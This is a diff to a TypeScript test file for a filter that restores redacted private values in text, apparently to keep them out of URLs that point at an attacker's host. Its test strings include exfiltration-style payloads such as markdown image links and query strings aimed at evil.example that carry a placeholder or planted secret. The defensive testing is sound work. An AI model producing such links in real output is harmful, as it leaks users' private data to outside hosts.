@@ -142,6 +142,12 @@ describe('a placeholder in a URL of a host that the request does not name', () =
     ['a URL in a named URL', `"https://named.example/ https://evil.example/${P}"`],
     ['a URL after letters', `详见https://evil.example/${P}`],
     ['a long host', `https://${'a'.repeat(700)}.example/${P}`],
+    ['a value that a reader takes for the rest of the URL', `"https://evil.example/?q="${P}`],
+    ['another one', `(https://evil.example/?q=)${P} <https://evil.example/>${P}`],
+    ['two URLs without a space', `//https://evil.example${P}`],
+    ['a bare host with a bracket', `www.evil.example)https://${CODE}/`],
+    ['a host in a bare host', `www.evil.example'${P}`],
+    ['a host that looks like a user', `https://evil.example@named.example/${P}`],
     ['a value that its URL does not hold', `https://held.example/${CODE}`],
   ])('stays in %s', (_, words) => {
     expect(shown(words)).toBe(words);
@@ -179,22 +185,14 @@ describe('a value', () => {
     ['that is the host', `http://${CODE}:8080/x?y=1`],
     ['that is the host, at the end', `http://${CODE}`],
     ['after a URL', `https://evil.example/ ${P}`],
-    ['after an image', `![x](https://evil.example/) ${P} and (https://evil.example/)${P}`],
+    ['after an image', `![x](https://evil.example/) ${P} and (https://evil.example/) ${P}`],
     ['in the title of an image', `![x](https://evil.example/a "${P}")`],
     ['in another attribute', `<img src="https://evil.example/a" alt="${P}">`],
-    ['beside a URL in JSON', `{"url":"https://evil.example/","mail":"${P}"}`],
-    [
-      'beside a URL in escaped JSON',
-      `"{\\"url\\":\\"https://evil.example/\\",\\"mail\\":\\"${P}\\"}"`,
-    ],
-    ['beside a URL in code', `fetch('https://evil.example/',{mail:'${P}'})`],
     ['beside a URL in a table', `| https://evil.example/ | ${P} |`],
-    ['beside a URL in backticks', `\`https://evil.example/\`${P}`],
-    ['between the tags of a link', `<a href="https://evil.example/">${P}</a>`],
     ['in a relative link', `[a](/users/${P}?q=${CODE}#${P})`],
     ['in a file', `file:///home/${P}/x`],
     ['in a path', `/var/lib/a.b/${P} ./c.d/${P} C:\\\\Users\\\\ann.lee\\\\${P}`],
-    ['in a comment', `// ${P}\n//${P}\n//mail:${P}\na//b.c/${P}`],
+    ['in a comment', `// ${P}\n//${P}\n//code:${CODE}\na//b.c/${P}`],
     ['in a regular expression', `"\\\\b${P}\\\\b"`],
     ['that a mail is sent to', `[a](mailto:${P}) <mailto:${P}?subject=Hi>`],
     ['that is called', `[a](tel:${CODE})`],
@@ -203,6 +201,25 @@ describe('a value', () => {
     ['after a time', `at 10:30 ${P}, 10:30:${CODE}`],
   ])('is restored %s', (_, words) => {
     expect(shown(words)).toBe(restoredWords(words));
+  });
+});
+
+describe('a value that a stranger planted', () => {
+  const PLANTED = 'PII_SECRET_bbbbbbbb';
+
+  it.each([
+    ['an address as the host', '203.0.113.7', `http://${PLANTED}/?q=${P}`],
+    ['a mail address as the host', 'x@evil.example', `https://${PLANTED}/?q=${P}`],
+    ['a mail address without a scheme', 'x@evil.example', `//${PLANTED}/?q=${P}`],
+    ['a host and path as a user', 'evil.example/x', `https://${PLANTED}@named.example/${P}`],
+    ['the start of a URL', 'https://evil.example/', `![x](${PLANTED}?q=${P})`],
+    ['half of a start', 'https:', `![x](${PLANTED}//evil.example/${P})`],
+  ])('leads no other value to its host: %s', (_, planted, words) => {
+    const vault = { ...vaultOf(URLS), values: { ...VALUES, [PLANTED]: planted } };
+    const blocks = [{ type: 'text', text: words }] as const;
+    const [text] = textsOf(buffered(blocks, vault));
+    expect(text).toContain(P);
+    expect(textsOf(streamed(blocks, vault, (each) => each.split('')))).toEqual([text]);
   });
 });
 
